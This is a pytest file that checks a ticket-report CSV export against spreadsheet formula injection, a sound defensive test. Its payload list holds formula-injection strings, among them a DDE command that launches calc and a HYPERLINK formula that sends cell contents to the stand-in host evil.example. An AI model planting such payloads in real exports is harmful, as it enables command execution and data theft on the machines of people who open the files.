"""Row 62: no cell of a report runs as a formula, whatever a mail or a shop put there."""

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from tests.faults.shops import deliver, letter, real_shop
from triage.usecases.report import as_csv, formula_safe, make_report

STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"see")', "1+1", "SUM(1+1)*cmd|' /C calc'!A0"]
BEFORE = ["", "\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", '"', "'", "\t\r\n ", "\x0b"]
PAYLOADS = [f"{start}{body}" for start in STARTS for body in BODIES]
PAYLOADS += [f"{before}={BODIES[number % 4]}" for number, before in enumerate(BEFORE)]
PAYLOADS += [f"{before}@SUM(1)" for before in BEFORE] + ["=", "-2", "+49 30 1234", "@ann"]


def runs(cell: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula, blanks passed over."""
    return cell.strip(' \t\r\n\v\f\u00a0\u200b\ufeff"').startswith(tuple(STARTS))


@pytest.mark.row(62)
def test_sixty_payloads_are_text_once_they_are_in_a_report(tmp_path: Path):
    assert len(PAYLOADS) == 60
    shop = real_shop(tmp_path)
    mails = [letter("From: Ann <ann@mail.example>", f"Message-ID: <{number}@mail.example>", text=f"Hello {number}")
             for number in range(len(PAYLOADS))]  # fmt: skip
    deliver(shop, *mails)
    day: date = shop.clock[0].date()
    report = make_report(shop.app, first=day, last=day)
    rows = [
        replace(row, ticket=replace(row.ticket, public_id=payload, store=payload, label=payload))
        for row, payload in zip(report.rows, PAYLOADS, strict=True)
    ]
    text = as_csv(replace(report, rows=rows))
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert len(read) == len(PAYLOADS) + 1
    for cells, payload in zip(read[1:], PAYLOADS, strict=True):
        assert not any(runs(cell) for cell in cells), cells
        assert payload in cells[0]
    assert text.count('","') == (len(PAYLOADS) + 1) * (len(read[0]) - 1)


@pytest.mark.row(62)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_could_run_begins_with_an_apostrophe(payload: str):
    assert formula_safe(payload) == f"'{payload}"


@pytest.mark.row(62)
@pytest.mark.parametrize("cell", ["milliretro", "a = b", "2026-03-02", "Ann", "", "x@y.example", 12, None])
def test_plain_cells_stay_as_they_are(cell: object):
    assert formula_safe(cell) == ("" if cell is None else str(cell))
